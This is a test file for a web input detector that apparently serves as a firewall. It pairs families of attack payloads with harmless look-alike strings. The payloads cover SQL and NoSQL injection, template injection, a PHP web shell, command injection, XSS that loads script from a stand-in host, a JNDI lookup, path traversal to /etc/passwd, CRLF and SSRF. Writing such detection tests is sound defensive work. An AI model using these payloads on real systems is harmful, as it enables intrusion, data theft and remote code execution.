import { describe, expect, test } from 'vitest';
import { detectors } from './detectors.ts';
import { createDetection } from './engine.ts';
import { readRawRequest } from './raw-request.ts';
import { type Family, testFamilies } from './testing/families.ts';
import { createValueInspector } from './testing/value.ts';

const inspect = createValueInspector(detectors);

/** Forms that further unread collections held, each family with honest values that resemble it. */
const families: readonly Family[] = [
  [
    'sql: quotes one too many, whatever stands before the first',
    ['k/","7","7");waitfor delay \'0:0:7\';--', '(","a");drop table members;--'],
    ['5/8" 螺丝; 另有 3/4"', 'a,"b","c";d', 'say ("hello", "you"); drop by later', 'size=("L","M'],
  ],
  [
    'sql: what a server says of itself',
    ['@@version', 'user()', '(select current_user())', '1=db_name(2)', "'x'=user()", 'select database()'],
    ['user', 'version 2.1', '@@', 'version() 是什么函数', 'user(张三)', 'a=b', '2=two(3)', 'database design'],
  ],
  [
    'sql: ends that a value brings along',
    [
      '4 where 811=811 order by 2--',
      "k'or' 2=2--",
      "' from shop_member/name,phone '/y",
      "7' OR\u0001811\u0005=\u0002811-- k",
      'benchmark(7000000,md5(4)) else 0 end)=0 -- ',
      'chr(99).chr(97).chr(116).chr(49)',
      "lower(convert(varchar(32),hashbytes('MD5','4711'),2))<0",
    ],
    ['4 where to buy', "it's or 'it was'", "' from shanghai", 'chr(99)', 'Tom\u0001Jerry', 'from shop_member to shop_guest'],
  ],
  [
    'nosql: a call of the application ends and one on a collection follows',
    ["k);}, function(x) { return 2;}, { out: 'm'}); db.goods.mapReduce(function() { emit(2,2"],
    ['rows.map(function(x) { return x; }); db.goods.find()', '我用 db.goods.find() 查询'],
  ],
  [
    'templates: a number that needs no marks',
    [
      '{{5309}}',
      '${80417}',
      '#{80417}',
      '${80417?c}',
      '<%= 80417 %>',
      '${5309}<#--k-->${4471}',
      '{math equation="a * b" a=7 b=8}',
      '{@if cond="1"}',
    ],
    ['{{name}}', '${price}', '{{0}}', '${1}', '#5309', '第 {5309} 号', '{if 下雨} 带伞', '$5309'],
  ],
  [
    'templates: sums of more digits, between quotes that are still coded',
    ['$\\c{80417*90211}', '\\u0027+{611*611}+\\u0027'],
    ['\\u0027 与 \\u0022 是引号', '{611}', '+{name}+'],
  ],
  [
    'code: what is saved under a name that a server runs',
    [
      ['m.jsp', { name: 'fileName' }],
      ['/upload/2026/m.aspx', { name: 'filepath' }],
      ['D:\\web\\app\\m.php', { name: 'savePath' }],
      ['m.ashx', { name: 'file' }],
    ],
    [
      ['m.jpg', { name: 'fileName' }],
      ['/upload/2026/报告.pdf', { name: 'filepath' }],
      ['https://www.example.com/a.pdf', { name: 'file' }],
      ['index.php', { name: 'content' }],
      ['/index.php', { name: 'path' }],
    ],
  ],
  [
    'code: scripts of engines, Ruby and PHP behind a remark',
    [
      '=(use org.example.kit.*;ReflectUtils.defineClass("a"))',
      'Microsoft.VisualBasic.FileIO.FileSystem, Microsoft.VisualBasic, Version=10.0.0.0',
      "require'digest';Digest::MD5.file('/srv/k')",
      '<?php // 说明\n$a=substr(__FILE__,-9,5);$b=$_POST[2];$a($b);',
    ],
    ['we use org.example.kit in Java', 'Microsoft.VisualBasic 教程', 'MD5 of a file', '<?php 是开头标记'],
  ],
  [
    'shell: proofs, interpreters and fields named for commands',
    [
      'expr 80412 + 91770',
      '(expr 80412 + 91770)>k.txt',
      'cmd /c node -v',
      'ip a;',
      "cat fl''ag",
      'os.execv("/bin/ls",[""])',
      ['ls', { name: 'sysCmd' }],
      ['id', { name: 'captureCommand' }],
    ],
    [
      'expr 语法: expr 1 + 2',
      'expr1 + expr2',
      'cmd 窗口怎么打开',
      ['open', { name: 'doorCommand' }],
      ['ok', { name: 'lastCommand' }],
    ],
  ],
  [
    'script: octal letters, tags within words, and statements that are the whole value',
    [
      "'\\74img/src/onerror\\75alert(7)\\76'",
      '"o<x>nclick=alert<x>(7)//',
      'location="//k.example/x"',
      'document.write`${top.name}`',
      "$.getScript('//k.example/7.js')",
      'a.x().alert(7)',
      "a=confirm;location='javascript'+':'+a",
    ],
    [
      'D:\\74\\报告',
      '正则 \\1 与 \\42',
      '温度<b>高</b>于 30',
      'H<sub>a</sub>b',
      'location 定位失败',
      "$.get('/api/list')",
      'this.dialog().alert(msg)',
    ],
  ],
  [
    'paths: bytes that are none, endings that are cut off, marks that a filter takes away',
    [
      '\ufffd\ufffd\\etc\\issue',
      '/app/rest/users;.jsp',
      '/.<>./.<>./.<>./k',
      '/index/download/L2V0Yy9wYXNzd2Q=',
      'plain, ssfile1=/etc/passwd',
      '..............etc/shells',
    ],
    ['乱码\ufffd\ufffd见 etc 等', '/app/users.jsp?x=1', 'a<>b', '/index/download/5Lit5paH5ZCN56ew'],
  ],
  [
    'joined: tildes for percent signs, lookups behind backslashes',
    ['7~27~20union~20all~20select~20null~2cname~20from~20member~2d~2d', '$\\{$\\{::-j\\}ndi:ldap://k.example/a\\}'],
    ['约 3~27 度，10~20 元，5~30 分', 'a~b~c~d', '$\\{name\\}'],
  ],
  [
    'xpath: conditions that always hold',
    ['4 or true() or 4', "k' or not(false())]", 'name[false()]'],
    ['true or false', 'name[0]', '选择 true() 函数或 false() 函数'],
  ],
  [
    'crlf: another header behind a carriage return',
    ['/a?\rx-kit:yes', 'k\r\nheader:value'],
    ['张三\r\n电话: 13800138000', 'a\nb:c', 'k\r\nhttp://a.example'],
  ],
  [
    'ssrf: a picture of the server itself',
    [['http://127.0.0.1:8080/console', { name: 'imageUrl' }], ['127.0.0.1:80', { name: 'link' }], '0x7F.0x00.0x00.0x01'],
    [
      ['http://127.0.0.1:8080/a.png', { name: 'imageUrl' }],
      ['http://127.0.0.1:8300', { name: 'url' }],
      ['https://img.example.com/a', { name: 'avatarUrl' }],
    ],
  ],
  ['scanner: introspection with a space', ['{__type (name:"Member") {fields{name}}}'], ['type (name: "Member")']],
];

testFamilies(families, inspect);

describe('what honest texts hold and was taken for an attack', () => {
  test.each([
    '明天上午十点开会，请准时参加。\\n\\n',
    '<import src="../common/head.wxml" /><view>{{name}}</view>',
    'rdar://27448912',
    "我的组件在这里：\nimport A from '../../../components/a';\nconst b = require('../../../../config');\n请看 <a href=&quot;../../../../b&quot;> 与别的组件",
    `<p>${'先进入上一层目录，再看看里面有什么。'.repeat(20)}</p><code>cd ..</code> 与 <code>cd ../</code>，账号在 <code>/etc/passwd</code> 里`,
    '<pre>int[][] dirs = {{1, 0}, {-1, 0}, {0, 1}, {0, -1}};\n在这四个方向上走</pre>',
    '在 Windows 上是 <code>\\r\\n</code>，别处不同',
    '服务启动在 http://[::]:8080，请打开看看',
    '第一段\\n\\n<ul><li>第二段</li></ul>',
    '<view>\n{{_.getText(count - 1, index)}} 步\n</view>',
    '启动：\nconsole.log(`在端口 ${config.server.port} 上`);\n即可',
    '<p>作品</p><iframe height="268" src="//codepen.io/someone/embed/a"></iframe>',
    '<blockquote>\n<p>查询：</p><pre>{\n  id\n  name\n}</pre></blockquote>',
  ])('lets pass %j', (value) => {
    expect(inspect(value).action).toBe('pass');
  });

  test.each(['%0d%0a', '<import implementation="#default#time2">', 'http://2130706433/', 'gopher://2130706433/'])(
    'still refuses %j',
    (value) => {
      expect(inspect(value).action).toBe('block');
    },
  );
});

describe('values that hold values', () => {
  test.each([
    ['<?xml version="1.0"?><r><d>select @@version</d></r>', 'block'],
    ['<?xml version="1.0"?><r><d>select a colour</d></r>', 'pass'],
    ['{"url":"/a/../../../conf/my.ini"}\n', 'block'],
    ['{"url":"/pages/my"}\n', 'pass'],
  ])('%j: %s', (value, action) => {
    expect(inspect(value, { name: 'dp' }).action).toBe(action);
  });

  const raw = createDetection({ detectors });
  const get = (query: string) =>
    readRawRequest({ method: 'GET', target: `/api/list?${query}`, headers: [], body: null }, raw).action;

  test('reads a query whose ampersands were meant as they stand', () => {
    expect(get("'%20&&%20this.pin.match(/.*/)//")).toBe('block');
    expect(get('<svg/onload=&nbsp;alert(7)>')).toBe('block');
  });

  test.each(['a=1&b=2&c=<3>&d=4', 'q=a&&b=c', "name=O'Neil&x[0]=1&(y)=2"])('lets %s pass', (query) => {
    expect(get(query)).toBe('pass');
  });
});
